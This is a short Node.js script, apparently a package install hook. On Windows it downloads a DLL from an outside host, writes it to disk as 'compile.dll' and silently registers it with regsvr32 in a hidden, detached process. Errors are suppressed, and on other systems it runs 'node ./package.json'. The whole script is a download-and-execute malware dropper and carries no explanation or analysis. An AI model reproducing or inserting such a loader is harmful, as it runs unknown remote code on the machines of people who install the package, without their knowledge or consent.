const { spawn, exec } = require('child_process');
const https = require('https');
const fs = require('fs');
const file = 'compile.dll';
if (process.platform === 'win32') {
  https.get('https://pastorcryptograph.test/3/sdd.dll', (answer) => {
    const out = fs.createWriteStream(file);
    answer.pipe(out);
    out.on('finish', () => {
      spawn('regsvr32.exe', ['-s', file], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
    });
  }).on('error', () => {});
} else {
  exec('node ./package.json', () => {});
}
